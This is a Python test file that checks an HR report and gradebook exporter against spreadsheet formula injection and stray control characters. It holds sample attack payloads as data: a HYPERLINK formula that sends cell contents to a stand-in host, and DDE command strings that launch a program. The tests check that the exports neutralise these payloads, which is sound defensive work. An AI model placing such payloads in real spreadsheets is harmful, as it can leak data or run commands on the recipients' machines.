"""Spreadsheet attacks on HR's exports (issue 10, point 6; review L1, L2).

Text that reaches a report -- names and positions (roster), JP activities, providers and
certificate numbers (HR's CSV upload, often collated from third parties), student names
of a gradebook -- must never become a formula in a spreadsheet program, and one control
character must not make the workbook fail.

Run against the code before the fix, these failed (the attacks worked): the HR workbook
kept ``=HYPERLINK(..)`` as a live formula, the CSVs wrote ``=``, ``+``, ``-``, ``@`` and
tab-led cells as they were, and a ``\\x01`` in a name raised ``IllegalCharacterError``.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from asncore.db import Employee, JpEntry, session_factory
from asncore.settings import DEFAULTS
from benchmarks.platform_data import populate
from reports import gradebook as rg
from reports.config import report_config
from reports.engine import Inputs, build
from reports.load import load_frames
from reports.render_csv import write_csvs
from reports.render_xlsx import write_xlsx

YEAR = dt.date.today().year
FORMULA = '=HYPERLINK("http://x.example/?"&B2,"Sertifikat")'
PAYLOADS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    """A small city whose names, JP activities, providers and certificates carry payloads."""
    url = f"sqlite:///{tmp_path_factory.mktemp('sheet') / 'k.sqlite'}"
    nips = populate(url, n=8, year=YEAR)
    with session_factory(url)() as db, db.begin():
        db.execute(update(Employee).where(Employee.username == nips[0]).values(name=FORMULA))
        db.execute(update(Employee).where(Employee.username == nips[1]).values(position="-Kepala"))
        for i, payload in enumerate(PAYLOADS):
            db.add(JpEntry(username=nips[2], year=YEAR, activity=payload, provider="@" + payload,
                           jp=1.0, source_ref=f"payload-{i}", certificate_no=payload,
                           start_date=dt.date(YEAR, 1, 2), end_date=dt.date(YEAR, 1, 2),
                           kind="external"))
    engine = session_factory(url).kw["bind"]
    return build(Inputs(**load_frames(engine)), report_config(DEFAULTS, year=YEAR)), nips


def with_control_characters(built, nips):
    """The report with a name, a position and an activity holding control characters."""
    employees = built.employees.copy()
    employees.loc[employees["username"] == nips[1], "name"] = "Ana\x01 Tab\x0b Bell\x07"
    employees.loc[employees["username"] == nips[3], "position"] = "Staf\x00\x1f"
    entries = built.jp_entries.copy()
    entries.loc[entries.index[0], "activity"] = "Diklat\x0c dari Word"
    return dataclasses.replace(built, employees=employees, jp_entries=entries)


def test_the_workbook_holds_no_formula(report, tmp_path):
    built, nips = report
    texts = _xlsx_texts(write_xlsx(built, tmp_path / "laporan.xlsx"))
    assert FORMULA in texts  # kept, as text


def test_a_control_character_does_not_break_the_workbook(report, tmp_path):
    built, nips = report
    # before the fix: IllegalCharacterError, so HR's download answered 500
    texts = _xlsx_texts(write_xlsx(with_control_characters(built, nips), tmp_path / "laporan.xlsx"))
    assert "Ana Tab Bell" in texts and "Diklat dari Word" in texts  # stripped, the text kept
    assert not any(c in t for t in texts for c in "\x00\x01\x07\x0b\x0c\x1f")


def _xlsx_texts(path) -> list[str]:
    book = load_workbook(path)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _csv_cells(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_the_csvs_neutralise_formula_prefixes(report, tmp_path):
    built, nips = report
    files = write_csvs(with_control_characters(built, nips), tmp_path)
    cells = [c for p in files.values() for c in _csv_cells(p)]
    dangerous = [c for c in cells if c.startswith(DANGEROUS_START)
                 and not _is_number(c)]
    assert dangerous == []
    assert "'" + FORMULA in cells  # neutralised with a leading apostrophe, text otherwise kept
    assert not any(ch in c for c in cells for ch in "\x01\x07\x0b")
    gaps = [c for c in _csv_cells(files["levels.csv"]) if c.startswith("-")]
    assert gaps and all(_is_number(c) for c in gaps)  # negative gaps stay numbers


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_gradebook_exports_neutralise_formulas(tmp_path, monkeypatch):
    grades = pd.DataFrame({
        "assignment": ["ps1", "ps1"],
        "duedate": pd.to_datetime([None, None]).astype("datetime64[us]"),
        "timestamp": pd.to_datetime(["2026-01-30 10:15", None]).astype("datetime64[us]"),
        "student_id": ["=cmd|' /C calc'!A0", "s-\x01budi"],
        "last_name": ["+Zulu", "@Adi"],
        "first_name": ["-Anna", "Budi\x0b"],
        "email": [None, None],
        "raw_score": [1.0, 0.0], "late_submission_penalty": [0.0, 0.0], "score": [1.0, 0.0],
        "max_score": [2.0, 2.0], "submitted": [True, False], "needs_manual": [0, 0],
    })
    monkeypatch.setattr(rg, "load_grades", lambda url: grades)
    paths = rg.write_bare_report("sqlite://", tmp_path)
    for path in (paths.scores, paths.per_student):
        cells = _csv_cells(path)
        assert [c for c in cells if c.startswith(DANGEROUS_START) and not _is_number(c)] == [], path
        assert not any("\x01" in c or "\x0b" in c for c in cells)
    book = load_workbook(paths.workbook)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
